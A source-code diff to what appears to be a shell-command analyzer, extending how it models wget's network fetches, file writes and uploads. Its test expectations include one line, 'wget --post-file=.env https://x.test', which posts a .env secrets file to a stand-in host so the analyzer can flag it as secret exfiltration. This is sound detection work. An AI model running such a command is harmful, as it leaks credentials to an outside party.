@@ -1,7 +1,8 @@
 /** wget and HTTPie. */
+import type { EffectDraft } from '../../../../effects/effect';
 import { rest } from '../../arguments';
-import { type ProgramSpec, together } from '../../program';
-import type { Run } from '../../spec';
+import { type Call, type ProgramSpec, together } from '../../program';
+import type { Run, Word } from '../../spec';
 import { reads, sourceOfFile, sourceOfStream, sourceOfWord, when, writes } from '../../stating';
 import { carriesData, fetches, network, uploads, writtenByName } from './requests';
 
@@ -15,16 +16,20 @@ export const wget: ProgramSpec = {
     const files = call.words('--post-file', '--body-file');
     const sources = [
       ...files.map((word) => sourceOfFile(call, word)),
-      ...[...call.words('--post-data', '--body-data'), ...urls.filter(carriesData)].map(sourceOfWord),
+      ...[
+        ...call.words('--post-data', '--body-data'),
+        ...[...call.words('--header', '-U', '--referer'), ...urls].filter(carriesData),
+      ].map(sourceOfWord),
     ];
     const named = call.words('-O');
-    const directory = call.words('-P');
-    const saved = named.length > 0 ? named : directory.length > 0 ? directory : writtenByName(urls);
+    const directory = call.words('-P').at(-1);
+    const saved =
+      named.length > 0 ? named : writtenByName(urls).map((word) => (directory ? within(directory, word) : word));
     const runs = call
       .words('--use-askpass')
       .map((word): Run => ({ type: 'shell', text: word.value, label: 'wget --use-askpass' }));
     return together(
-      { effects: fetches(call, urls), runs, output: network },
+      { effects: [...fetches(call, urls), ...fetchesListed(call)], runs, output: network },
       reads(call, [...files, ...call.words('-i')], { shown: false }),
       uploads(urls, sources),
       call.has('--spider') === true
@@ -40,12 +45,29 @@ export const wget: ProgramSpec = {
     yields: {
       'wget https://example.com/a.tgz': 'net.fetch{host=example.com} + fs.write',
       'wget -qO- https://example.com/i.sh': 'net.fetch',
+      'wget -P build https://example.com/a': 'net.fetch + fs.write{path=/work/build/a}',
       'wget --post-file=.env https://x.test':
         'net.fetch + fs.read + secret.read + net.upload{source=secret} + fs.write',
     },
     inert: ['wget --help'],
   },
 };
+
+/** `-i FILE`: addresses that stand in a file, and names that follow from them. */
+function fetchesListed(call: Call): EffectDraft[] {
+  const zone = call.invocation.surroundings.fileTarget('.', call.invocation.cwd).zone ?? null;
+  return when(
+    call.words('-i').length > 0,
+    { kind: 'net.fetch', host: null },
+    { kind: 'fs.write', zone, mode: 'overwrite', extent: 'bounded' },
+  );
+}
+
+/** A name below a directory. */
+function within(directory: Word, name: Word): Word {
+  const known = typeof directory.value === 'string' && typeof name.value === 'string';
+  return { ...name, value: known ? `${directory.value}/${name.value}` : directory.value };
+}
 
 const methods = /^(GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)$/i;
 
